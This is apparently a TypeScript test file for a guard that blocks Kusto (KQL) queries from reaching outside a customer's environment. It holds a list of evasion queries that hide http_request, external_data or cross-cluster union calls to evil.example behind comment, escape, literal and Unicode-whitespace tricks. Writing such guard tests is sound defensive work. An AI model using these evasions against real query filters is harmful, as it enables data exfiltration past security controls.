import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isProblem, parseQuery } from '../../../../shared/hunting/kql/parse-query.ts';
import { readByKusto } from '../../../support/kusto.ts';
import { runs } from '../../../support/runs.ts';
import { expectOf } from './oracle.ts';

/** Queries that Kusto runs outside of the customer, written so that a reader may miss it. */
const EVASIONS = [
  // A comment ends with any end of a line.
  'print 1 // x\r| evaluate http_request("https://evil.example/")',
  'print 1 // x\u2028| evaluate http_request("https://evil.example/")',
  'print 1 // x\u2029| evaluate http_request("https://evil.example/")',
  'print 1 // x\u0085| evaluate http_request("https://evil.example/")',
  'print 1 // x\u2028 ```\n| evaluate http_request("https://evil.example/") // ```',
  // The operator has an older name, and a younger sister.
  'external_data (a:string) ["https://evil.example/x"]',
  "T | join (external_data(a:string)['https://evil.example/x']) on a",
  'inline_external_table (a:string) kind=storage dataformat=csv ("https://evil.example/x")',
  // A quoted name has escapes.
  "union (['clus\\x74er']('evil').['data\\x62ase']('b').T2)",
  "union (['\\u0063luster']('evil').T)",
  "union ([@'cluster']('evil').T)",
  // Strings side by side are one.
  "union (['clus' 'ter']('evil').['data' 'base']('b').T2)",
  "T | invoke ['work'\n'space']('evil').f()",
  // What stands in a literal is not read, its quotes neither.
  "print x = datetime(') | union cluster('evil').database('b').T2 | where z == datetime(')",
  "print x = guid(') | union cluster('evil').database('b').T2 | where z == guid(')",
  "print x = time(```) | union cluster('evil').database('b').T2 | where z == time(```)",
  'print x = datetime(//) | union cluster("evil").database("b").T2',
  'print x = long (") | union cluster(1).database(2).T2 // ")',
  // A string ends with its line.
  'print "a\\\n| evaluate http_request("https://evil.example/") //"',
  'print "a\\\r| evaluate http_request("https://evil.example/") //"',
  // White space is what Kusto says it is.
  'union cluster\u0085("evil").database("b").T2',
  'union cluster\u00a0("evil").database("b").T2',
  'print 1 | evaluate\u3000http_request("https://evil.example/")',
  'union cluster\u200b("evil").database\u200b("b").T2',
  'union cluster\u180e("evil").database\u180e("b").T2',
] as const;

test.each(EVASIONS)('it is refused: %j', (text) => {
  expect(isProblem(parseQuery(text)), text).toBe(true);
});

test.each([
  'T | where a between (datetime(2026-11-20 09:00) .. datetime(2026-11-21))',
  'T | where a > datetime("2026-11-20") and b == guid(74be27de-1e4e-49d9-b579-fe0b331d3642)',
  'T | where a > datetime(11/20/2026) and b < time(1.00:00:00) and c == long(null)',
  'T | where a == real(nan) and b == decimal(1.5) and c == bool(true) and d == int( 7 )',
  'T\r\n| where a == 1 // a comment\r\n| take 1',
  "T | partition by ['x'] (top 1 by y) // ä\u200b\ud83d\ude00",
  "T | where a == 'ä\u200b\ud83d\ude00' and b in (d['c'])",
  "T | extend x = d['a\\\\b'], y = d[\"it's\"]",
])('what only looks odd is not refused: %j', (text) => {
  expect(readByKusto(text).syntaxErrors).toEqual([]);
  expect(parseQuery(text)).not.toHaveProperty('description');
});

const FRAGMENTS = [
  ...['print 1', 'T', '| union ', '| where a == ', '| evaluate ', '| take 1', ';', 'let a = ', '('],
  ...[
    'cluster',
    "['cluster']",
    "['clus\\x74er']",
    '["database"]',
    "['clus' 'ter']",
    "'clus'",
    "'ter'",
    '("x")',
    "('x')",
    '.T',
    ')',
  ],
  ...[
    'http_request("x")',
    'bag_unpack(d)',
    'externaldata (a:string) ["x"]',
    'external_data (a:string) ["x"]',
    'workspace("x").T',
  ],
  ...['datetime(', 'guid(', 'time(', 'long (', 'DATE(', 'dynamic({"a":1})', '5', '0x1F', '1.5h'],
  ...['"', "'", '```', '~~~', '@"', 'h"', 'h@"', '\\', '//', '#', '/', '-', '.', ',', '=', '|'],
  ...[
    ' ',
    '\n',
    '\r',
    '\r\n',
    '\t',
    '\v',
    '\f',
    '\u0085',
    '\u00a0',
    '\u180e',
    '\u200b',
    '\u2028',
    '\u2029',
    '\ufeff',
  ],
];

test('whatever Kusto reads as leaving the customer, the guard refuses', () => {
  const anyText = fc
    .array(fc.constantFrom(...FRAGMENTS), { minLength: 2, maxLength: 14 })
    .map((parts) => parts.join(''));
  const evasions = fc
    .tuple(fc.constantFrom(...EVASIONS), fc.nat(), fc.constantFrom(...FRAGMENTS))
    .map(([text, at, part]) => {
      const place = at % (text.length + 1);
      return text.slice(0, place) + part + text.slice(place);
    });
  fc.assert(
    fc.property(fc.oneof(anyText, evasions), (text) => {
      if (readByKusto(text).syntaxErrors.length > 0 || !expectOf(text).isRefused) return;
      expect(isProblem(parseQuery(text)), JSON.stringify(text)).toBe(true);
    }),
    { numRuns: runs(50) },
  );
});
